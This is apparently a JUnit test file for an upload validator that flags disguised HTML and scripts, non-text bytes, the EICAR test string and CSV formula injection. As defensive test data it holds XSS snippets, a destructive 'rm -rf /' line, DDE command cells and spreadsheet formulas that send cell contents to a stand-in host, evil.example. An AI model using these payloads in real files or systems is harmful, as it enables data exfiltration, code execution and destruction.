package io.cybersensei.upload.internal.check.text;

import static io.cybersensei.upload.testing.TestFile.bytes;
import static io.cybersensei.upload.testing.TestFile.join;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.cybersensei.upload.testing.Checks;
import io.cybersensei.upload.type.FindingCode;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TextRulesTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<html><body>",
        "  <!DOCTYPE html>",
        "<svg onload=alert(1)>",
        "<script>alert(1)</script>",
        "<?xml version=\"1.0\"?>",
        "<?php system('x');",
        "#!/bin/sh\nrm -rf /",
        "%PDF-1.7",
        "{\\rtf1"
      })
  void documentOrScriptNamedTextIsAMismatch(String text) {
    for (String name : new String[] {"a.txt", "a.md", "a.csv"}) {
      assertThat(Checks.codes(name, bytes(text))).containsExactly(FindingCode.TYPE_MISMATCH);
      assertThat(Checks.codes(name, ("\uFEFF" + text).getBytes(StandardCharsets.UTF_8)))
          .isNotEmpty();
    }
  }

  @Test
  void pageInUtf16IsAMismatch() {
    assertThat(Checks.codes("a.txt", "\uFEFF<html>".getBytes(StandardCharsets.UTF_16LE)))
        .containsExactly(FindingCode.TYPE_MISMATCH);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "MZ stands for Mark Zbikowski.",
        "BM25 is a ranking.",
        "The tag <html> begins a page.",
        "# <b>Title</b>",
        "Größe: 5 µm, naïve, 日本語, 🎓"
      })
  void ordinaryTextIsAccepted(String text) {
    assertThat(Checks.findings("a.txt", text.getBytes(StandardCharsets.UTF_8))).isEmpty();
  }

  @Test
  void bytesThatAreNoTextAreRefused() {
    assertThat(Checks.codes("a.txt", bytes("abc\0def"))).containsExactly(FindingCode.NOT_TEXT);
    assertThat(Checks.codes("a.csv", bytes("a,b\u0001"))).containsExactly(FindingCode.NOT_TEXT);
    assertThat(Checks.codes("a.txt", bytes("\u00FF\u00FEa\0\0\u00D8")))
        .containsExactly(FindingCode.NOT_TEXT);
  }

  @Test
  void emptyFileIsRefused() {
    assertThat(Checks.codes("a.txt", new byte[0])).containsExactly(FindingCode.EMPTY);
  }

  @Test
  void testFileOfVirusScannersIsFoundInEachType() {
    byte[] eicar =
        bytes("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");

    assertThat(Checks.codes("a.txt", eicar)).containsExactly(FindingCode.MALWARE);
    assertThat(Checks.codes("a.pdf", eicar)).containsExactly(FindingCode.MALWARE);
    assertThat(Checks.codes("a.csv", join(bytes("a,b\n"), eicar)))
        .containsExactly(FindingCode.MALWARE);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a,=cmd|'/C calc'!A0",
        "a\n=cmd|' /C calc'!A0",
        "\"=cmd|'/C calc'!A0\"",
        "+cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "a;=WEBSERVICE(\"http://evil.example/\"&A1)",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
        "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")"
      })
  void cellThatIsACommandIsFound(String table) {
    assertThat(Checks.codes("a.csv", bytes(table)))
        .containsExactly(FindingCode.DYNAMIC_DATA_EXCHANGE);
  }

  @ParameterizedTest
  @ValueSource(strings = {",=a|'", "=hyperlink(", "-|", "@a|b ", "<s", "<?"})
  void repeatedBeginningIsReadInLinearTime(String piece) {
    byte[] file = bytes(piece.repeat(4_000_000 / piece.length()));

    assertTimeoutPreemptively(
        Duration.ofSeconds(20), () -> assertThat(Checks.findings("a.csv", file)).isEmpty());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a,-3,+4",
        "=SUM(A1:A3),=A1*2",
        "- item | other!",
        "+49 30 1234,x",
        "a|b|c\n1|2|3",
        "x,=HYPERLINK(\"https://example.org\",\"Example\")",
        "mail,ada@example.org (call me!)"
      })
  void ordinaryTableIsAccepted(String table) {
    assertThat(Checks.findings("a.csv", bytes(table))).isEmpty();
  }

  @Test
  void subtitlesBeginAsTheirKind() {
    assertThat(Checks.codes("a.vtt", bytes("1\n00:00:01,000 --> 00:00:02,000\nHi")))
        .containsExactly(FindingCode.TYPE_MISMATCH);
    assertThat(Checks.codes("a.srt", bytes("WEBVTT\n\n00:01.000 --> 00:02.000\nHi")))
        .containsExactly(FindingCode.TYPE_MISMATCH);
    assertThat(Checks.codes("a.vtt", bytes("WEBVTTx\n"))).isNotEmpty();
    assertThat(Checks.codes("a.vtt", bytes("WEBVTT - title\n\n00:01.000 --> 00:02.000\nHi")))
        .isEmpty();
  }
}
